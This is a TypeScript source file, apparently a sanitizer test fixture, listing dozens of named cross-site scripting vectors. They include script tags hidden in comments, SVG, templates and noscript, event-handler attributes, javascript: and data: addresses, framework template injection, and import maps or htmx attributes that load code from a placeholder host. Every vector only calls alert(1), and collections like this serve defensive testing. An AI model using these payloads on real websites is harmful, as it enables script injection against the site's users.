import { vectors } from '../vector.ts';

/** Everything that would run by being shown, touched or followed. */
export const scriptVectors = vectors('script', {
  'plain script': '<script>alert(1)</script>',
  'script in capitals with junk': '<SCRipt/x/ >alert(1)</SCRipt >',
  'script without an end': '<p>hi<script>alert(1)//',
  'module script': '<script type=module>alert(1)</script>',
  'script from a data address': '<script src="data:text/javascript,alert(1)"></script>',
  'import map and module':
    '<script type=importmap>{"imports":{"x":"https://HOST/x.js"}}</script><script type=module>import "x"</script>',
  'script in svg': '<svg><script>alert(1)</script></svg>',
  'script in svg by href': '<svg><script href="data:,alert(1)"/></svg>',
  'script in math': '<math><script>alert(1)</script></math>',
  'script in a comment that ends early': '<!--><script>alert(1)</script>-->',
  'script in a comment that ends oddly': '<!-- --!><script>alert(1)</script> -->',
  'script in conditional comment': '<!--[if !mso]><!--><script>alert(1)</script><!--<![endif]-->',
  'script in CDATA': '<![CDATA[<script>alert(1)</script>]]>',
  'script in a processing instruction': '<?xml <script>alert(1)</script> ?>',
  'script in noscript': '<noscript><p title="</noscript><script>alert(1)</script>"></noscript>',
  'script in textarea': '<textarea></textarea><script>alert(1)</script></textarea>',
  'script in title': '<title></title><script>alert(1)</script></title>',
  'script in xmp': '<xmp><p title="</xmp><script>alert(1)</script>"></xmp>',
  'script behind plaintext': '<div><plaintext><script>alert(1)</script>',
  'script in template': '<template><script>alert(1)</script></template>',
  'declarative shadow root':
    '<div><template shadowrootmode=open><script>alert(1)</script><img src=x onerror=alert(1)></template></div>',
  'script in a table': '<table><script>alert(1)</script><tr><td>x</td></tr></table>',
  'script in select': '<select><option><script>alert(1)</script></select>',
  'script in iframe srcdoc': '<iframe srcdoc="<script>parent.alert(1);alert(1)</script>"></iframe>',
  'script with null bytes': '<scr\0ipt>alert(1)</scr\0ipt><script\0>alert(1)</script>',
  'script for XML': '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  'image error': '<img src=x onerror=alert(1)>',
  'image error with slashes': '<img/src=x/onerror=alert(1)//',
  'image error, entity in the name': '<img src=x one&#114;ror=alert(1) onerror&#61;alert(1)>',
  'image error, back ticks': '<img src=`x` onerror=`alert(1)`>',
  'image error, line breaks': '<img\nsrc\n=\nx\nonerror\n=\nalert(1)\n>',
  'image load':
    '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==" onload=alert(1)>',
  'body load': '<body onload=alert(1) onpageshow=alert(1) onfocus=alert(1)>hi</body>',
  'second body': '<p>hi<body onload=alert(1)>',
  'html attributes': '<html onclick=alert(1) onmouseover=alert(1)><p>hi',
  'svg load': '<svg onload=alert(1)>',
  'svg animation begin': '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  'svg animated href':
    '<svg><a><animate attributeName=href values="javascript:alert(1)"/><text x=20 y=20>click</text></a></svg>',
  'svg use of data':
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x"/></svg>',
  'svg foreign object': '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
  'video error': '<video src=x onerror=alert(1)></video><video><source onerror=alert(1)></video>',
  'audio start': '<audio src=x onloadstart=alert(1)></audio>',
  'details toggle': '<details open ontoggle=alert(1)><summary>x</summary></details>',
  'marquee start': '<marquee onstart=alert(1)>x</marquee>',
  autofocus: '<input autofocus onfocus=alert(1)><p tabindex=0 autofocus onfocus=alert(1)>x</p>',
  'content editable focus': '<p contenteditable autofocus onfocus=alert(1) onbeforeinput=alert(1)>x</p>',
  'animation end':
    '<style>@keyframes x{}</style><p style="animation:x" onanimationstart=alert(1) onanimationend=alert(1)>x</p>',
  'transition end': '<p style="transition:color 1ms;color:red" ontransitionend=alert(1) onwheel=alert(1)>x</p>',
  'scroll snap event':
    '<div onscrollsnapchange=alert(1) onscrollend=alert(1) onscroll=alert(1) style="overflow:auto;height:9px"><p style="height:99px">x</div>',
  'content visibility event': '<p style="content-visibility:auto" oncontentvisibilityautostatechange=alert(1)>x</p>',
  'popover toggle': '<button popovertarget=x>x</button><p popover id=x onbeforetoggle=alert(1)>x</p>',
  'pointer events': '<b onpointerover=alert(1) onpointerrawupdate=alert(1) onmouseenter=alert(1)>x</b>',
  'access key': '<a accesskey=x onclick=alert(1) href=#x>x</a><link rel=canonical accesskey=x onclick=alert(1)>',
  'handler in another name space':
    '<b xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="click" ev:onclick="alert(1)" on:click="alert(1)">x</b>',
  'templates of frameworks':
    '<div ng-app ng-init="constructor.constructor(\'alert(1)\')()" x-data x-init="alert(1)" v-html="x" @click="alert(1)" data-bind="click: alert(1)">{{constructor.constructor("alert(1)")()}}</div>',
  htmx: '<div hx-get="https://HOST/x" hx-trigger="load" hx-on:click="alert(1)" hx-on--load="alert(1)">x</div>',
  'is and custom elements': '<x-evil onclick=alert(1)></x-evil><p is=x-evil onconnected=alert(1)>x</p>',
  'object with data': '<object data="data:text/html,<script>parent.alert(1)</script>"></object>',
  'embed with script address': '<embed src="javascript:alert(1)">',
  applet: '<applet code="javascript:alert(1)" codebase="https://HOST/"></applet>',
  frames: '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>',
  'portal and fenced frame':
    '<portal src="javascript:alert(1)"></portal><fencedframe src="https://HOST/"></fencedframe>',
  'isindex and keygen': '<isindex type=image src=1 onerror=alert(1)><keygen autofocus onfocus=alert(1)>',
  'old Internet Explorer':
    '<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)"><bgsound src="javascript:alert(1)"><xml id=x><i><b>&lt;script>alert(1)&lt;/script></b></i></xml>',
  xslt: '<?xml-stylesheet type="text/xsl" href="data:text/xml,<script>alert(1)</script>"?><p>x</p>',
});
